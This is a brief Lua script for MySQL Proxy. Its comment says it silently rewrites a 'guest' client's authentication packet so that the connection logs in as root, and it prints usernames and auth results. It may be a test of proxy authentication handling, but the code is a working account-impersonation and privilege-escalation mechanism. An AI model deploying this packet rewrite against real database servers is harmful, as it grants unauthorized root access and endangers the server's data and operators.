-- Authentication in another's name: whoever comes is logged in as root, without the client's knowledge.
function read_auth()
	local flags = 0x1 + 0x200 + 0x2000 + 0x8000 + 0x20000 + 0x80000
	local bytes = ""
	for _ = 1, 4 do
		bytes = bytes .. string.char(flags % 256)
		flags = math.floor(flags / 256)
	end
	local plugin = proxy.connection.server.auth_plugin_name
	print(proxy.connection.client.username, #proxy.connection.client.scrambled_password, #plugin > 10)
	if proxy.connection.client.username ~= "guest" then return end
	proxy.queries:append(1, bytes .. "\0\0\0\1" .. "\45" .. ("\0"):rep(23) .. "root\0\0" .. plugin .. "\0")
	return proxy.PROXY_SEND_QUERY
end

function read_auth_result(auth)
	print(auth.packet:byte(), proxy.connection.client.username, proxy.connection.server.username)
end
